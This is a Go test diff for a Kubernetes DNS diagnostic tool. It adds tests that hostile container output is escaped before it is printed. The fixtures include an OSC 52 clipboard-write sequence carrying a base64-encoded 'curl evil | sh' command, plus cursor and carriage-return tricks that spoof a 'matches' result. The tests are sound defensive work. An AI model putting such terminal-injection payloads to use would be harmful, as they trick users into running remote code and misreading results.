@@ -64,6 +64,12 @@ func TestExplainGolden(t *testing.T) {
 			containers: []containerFile{{name: "app", data: []byte("nameserver 8.8.8.8\nsearch shop.svc.cluster.local svc.cluster.local cluster.local corp.example.com\noptions ndots:5\n")}}},
 		{name: "unreadable", pod: "clusterfirst.yaml", out: "text", settings: explainSettings(nil),
 			containers: []containerFile{{name: "app", err: errors.New(`exec cat /etc/resolv.conf (no cat in the image?): command terminated with exit code 126`)}}},
+		// A hostile image: an OSC 52 clipboard write, a line erase and a
+		// carriage return that would paint "matches" over "differs".
+		{name: "hostile-output", pod: "clusterfirst.yaml", out: "text", settings: explainSettings(nil),
+			containers: []containerFile{
+				{name: "app", data: []byte("nameserver 10.0.0.66\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n\x1b[2K\x1b[1A\r# app: matches\x9b\xff\n")},
+				{name: "sidecar", err: errors.New("exec: \x1b[31mfake\x1b[0m\rok")}}},
 		{name: "no-exec", pod: "default.yaml", out: "text", settings: explainSettings(nil)},
 		{name: "namespace-label", pod: "clusterfirst.yaml", out: "text", nsPolicy: "ClusterFirstWithAutopath",
 			settings: explainSettings(func(s *nodesettings.Settings) { s.PodPolicy.NamespaceLabels = true; s.PodPolicy.Ndots = &ndots })},
@@ -85,6 +91,25 @@ func TestExplainGolden(t *testing.T) {
 			got := fmt.Sprintf("# explain %s (pod %s, -o %s)\nexit %d\n--- stdout\n%s--- stderr\n%s", tc.name, tc.pod, tc.out, code, stdout.String(), stderr.String())
 			compareGolden(t, filepath.Join("testdata", "golden", "explain-"+tc.name+".golden"), got)
 		})
+	}
+}
+
+// TestEscapeTerminal is the rule for text from containers and agents:
+// control characters but newline and tab, DEL, C1 controls and invalid
+// UTF-8 become Go escapes; printable text, UTF-8 included, stays.
+func TestEscapeTerminal(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"nameserver 10.0.0.1\n\toptions ndots:2\n", "nameserver 10.0.0.1\n\toptions ndots:2\n"},
+		{"\x1b]52;c;ZXZpbA==\x07", `\x1b]52;c;ZXZpbA==\a`},
+		{"differs\r# app: matches", `differs\r# app: matches`},
+		{"\x1b[2K\x7f", `\x1b[2K\x7f`},
+		{"csi\u009b31m", `csi\u009b31m`},
+		{"bad \xff byte", `bad \xff byte`},
+		{"straße ünïcode �", "straße ünïcode �"},
+	} {
+		if got := escapeTerminal(tc.in); got != tc.want {
+			t.Errorf("escapeTerminal(%q) = %q, want %q", tc.in, got, tc.want)
+		}
 	}
 }
 
